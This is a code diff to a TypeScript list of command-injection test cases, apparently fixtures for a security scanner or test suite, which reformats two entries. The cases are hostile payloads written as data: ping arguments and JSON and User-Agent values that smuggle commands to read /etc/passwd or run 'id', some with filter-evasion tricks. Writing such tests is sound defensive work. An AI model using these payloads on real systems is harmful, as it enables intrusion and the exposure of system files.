@@ -18,6 +18,14 @@ export const commandInjection: readonly Attack[] = [
   ping('x; /usr/bin/hea? -1 /etc/p?sswd', 'wildcards in paths', leaks('root:x:0:0')),
   ping("x; c''at /etc/pas''swd", 'quotes inside words', leaks('root:x:0:0')),
   ping('x\ncat /etc/passwd', 'line break', leaks('root:x:0:0')),
-  { name: 'out of quotes in JSON', request: { path: '/tools/size', json: { file: 'a"; id; echo "' } }, effect: leaks('uid=') },
-  { name: 'User-Agent header', request: { path: '/tools/browser', headers: { 'user-agent': '"; cat /etc/passwd; echo "' } }, effect: leaks('root:x:0:0') },
+  {
+    name: 'out of quotes in JSON',
+    request: { path: '/tools/size', json: { file: 'a"; id; echo "' } },
+    effect: leaks('uid='),
+  },
+  {
+    name: 'User-Agent header',
+    request: { path: '/tools/browser', headers: { 'user-agent': '"; cat /etc/passwd; echo "' } },
+    effect: leaks('root:x:0:0'),
+  },
 ];
